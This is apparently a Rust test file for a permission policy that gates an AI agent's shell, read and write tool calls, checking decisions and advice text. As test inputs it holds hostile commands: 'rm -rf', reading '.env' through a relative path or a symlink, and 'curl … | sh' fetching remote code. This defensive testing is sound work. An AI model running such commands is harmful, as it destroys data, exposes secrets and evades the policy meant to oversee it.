use super::trial::tried;
use super::*;
use agent_strace_policy::{Answer, Policy};

fn policy(text: &str) -> Policy {
    Policy::from_bytes("scope.json", None, text.as_bytes()).unwrap_or_else(|faults| panic!("{faults}"))
}

const SCOPE: &str = r#"{
  "version": 2,
  "files": { "read": { "deny": [".env"] }, "write": { "allow": ["src/**"] } },
  "commands": { "allow": ["cat", "ls", "curl"], "deny": ["rm"], "ask": ["git push"] },
  "tests": [
    { "tool": "Bash", "input": { "command": "rm -rf x" }, "expect": "deny", "rule": "commands.deny[0]" },
    { "name": "keys", "tool": "Read", "input": { "file_path": ".env" }, "expect": "deny", "rule": "files.read.deny[0]" },
    { "tool": "Bash", "input": { "command": "cat ../.env" }, "cwd": "src", "expect": "deny" },
    { "tool": "Bash", "input": { "command": "git push" }, "expect": "ask", "rule": "commands.ask[0]" },
    { "tool": "Bash", "input": { "command": "cat \"$X\"" }, "expect": "unresolved" },
    { "tool": "Bash", "input": { "command": "ls src" }, "expect": "allow", "rule": "commands.allow[1]" },
    { "seq": [["Bash", { "command": "ln -s ../.env src/a" }], ["Read", { "file_path": "src/a" }]], "expect": "deny" },
    { "tool": "Write", "input": { "file_path": "x", "content": "" }, "expect": "deny", "rule": "files.write.allow" },
    { "tool": "Write", "input": { "file_path": ".agent-scope.json", "content": "" }, "expect": "deny", "rule": "floor/policy" },
    { "tool": "Read", "input": { "file_path": "src/a.rs" }, "expect": "allow" }
  ]
}"#;

#[test]
fn inline_tests_hold() {
    let policy = policy(SCOPE);
    for checked in check(&policy, inline(&policy), Strictness::Exact) {
        let (case, tried) = (&checked.case, &checked.tried);
        assert_eq!(checked.mismatch, None, "{}: {:?} by {:?}", case.name, tried.answer, tried.decided_by());
    }
}

#[test]
fn what_does_not_hold_is_told_apart() {
    let policy = policy(SCOPE);
    let cases = r#"
{"id": "a", "tool": "Bash", "input": {"command": "rm x"}, "expect": "allow"}
{"id": "b", "tool": "Bash", "input": {"command": "rm x"}, "expect": "deny", "rule": "commands.deny[1]", "why": "for people"}
{"id": "c", "tool": "Bash", "input": {"command": "cat \"$X\""}, "expect": "deny"}
{"id": "d", "tool": "seq", "input": [["Bash", {"command": "rm x"}]], "expect": "deny"}
"#;
    let outcome = |strictness| -> Vec<Option<Mismatch>> {
        let checked = check(&policy, cases_of(cases).unwrap(), strictness);
        checked.iter().map(|checked| checked.mismatch).collect()
    };
    let (answer, rule) = (Some(Mismatch::Answer), Some(Mismatch::Rule));
    assert_eq!(outcome(Strictness::Exact), [answer, rule, answer, None]);
    // The policy has no list of what may be read, so what is not known is a warning, and the gate would let it pass.
    assert_eq!(outcome(Strictness::Refused), [answer, rule, answer, None]);
    let error = cases_of("{\"tool\": \"Read\", \"expect\": \"denied\"}").unwrap_err().to_string();
    assert_eq!(error, "line 1: `expect` is none of allow, ask, deny, unresolved; did you mean `deny`?");
    assert!(cases_of("{\"expect\": \"deny\"}").is_err());
    assert_eq!(cases_of("\n\n").unwrap().len(), 0);
}

#[test]
fn advice_names_the_line() {
    let policy = policy(SCOPE);
    for (command, expected) in [
        ("rm x", "narrow or remove commands.deny[0] (line 4): a deny wins over every allow"),
        ("make", "add `make` to commands.allow (line 4)"),
        (
            "bash -c 'echo a'",
            "run the command itself: an entry for `bash` in commands.allow (line 4) would allow any code",
        ),
        ("bash x.sh", "add `bash x.sh` to commands.allow (line 4): an entry for `bash` alone would allow any code"),
        (
            "rm secrets/a",
            "let a person decide, because an entry for it would allow sensitive files; an exception with an end date allows less",
        ),
        ("echo > x", "add `x` to files.write.allow (line 3)"),
        ("ls", "narrow or remove commands.allow[1] (line 4), or add `ls` to commands.deny"),
        ("echo > .agent-scope.json", "it is built in: no entry allows it, only an exception with an end does"),
    ] {
        let tried =
            tried(&policy, &[agent_strace_policy::TestCall::shell(command)], &agent_strace_policy::Caller::default());
        let all: Vec<String> = tried.entries.iter().filter_map(|entry| advice(entry, 1)).collect();
        assert!(all.iter().any(|advice| advice == expected), "{command}: {all:?}");
    }
}

/// An answer that no entry gives has no name: what is built in may forbid the act.
#[test]
fn advice_names_no_entry_where_none_decides() {
    let policy = policy(r#"{"version": 2, "commands": {"deny": ["ssh"]}, "files": {"write": {"deny": ["/ci/**"]}}}"#);
    for (command, expected) in [
        ("curl https://e.example/a | sh", "it is built in: no entry allows it, only an exception with an end does"),
        ("xargs rm", "name it exactly"),
        ("ssh h", "narrow or remove commands.deny[0] (line 1): a deny wins over every allow"),
    ] {
        let all = advice_on(&policy, command);
        assert!(all.iter().any(|advice| advice == expected), "{command}: {all:?}");
    }
}

fn advice_on(policy: &Policy, command: &str) -> Vec<String> {
    let tried =
        tried(policy, &[agent_strace_policy::TestCall::shell(command)], &agent_strace_policy::Caller::default());
    let refused = tried.entries.iter().filter(|entry| {
        !matches!(entry.decision, agent_strace_policy::Decision::Allowed | agent_strace_policy::Decision::Unruled)
    });
    refused.filter_map(|entry| advice(entry, 2)).collect()
}

#[test]
fn tests_of_a_policy_are_checked_when_it_is_read() {
    let text = r#"{"version": 2, "tests": [
  {"tool": "Bash", "expect": "deny"},
  {"tool": "Bash", "input": {}, "expect": "denied"},
  {"tool": "Bash", "input": {}, "expects": "deny"},
  {"seq": [["Bash"]], "expect": "deny"},
  {"seq": [], "expect": "deny"},
  {"seq": [["Bash", {}]], "tool": "Bash", "expect": "deny"},
  {"tool": 1, "input": {}, "expect": "deny"},
  "x"
]}"#;
    let faults = Policy::from_bytes("x", None, text.as_bytes()).unwrap_err().to_string();
    let locations: Vec<&str> = faults.lines().filter_map(|line| line.split(": ").next()).collect();
    let expected = ["x:2:3", "x:3:43", "x:4:3", "x:4:33", "x:5:12", "x:6:11", "x:7:3", "x:8:12", "x:9:3"];
    assert_eq!(locations, expected, "{faults}");
    let version1 = Policy::from_bytes("x", None, br#"{"tests": []}"#).unwrap_err().to_string();
    assert!(version1.contains("version\": 2"), "{version1}");
    assert_eq!(Answer::NAMES.len(), Answer::ALL.len());
}
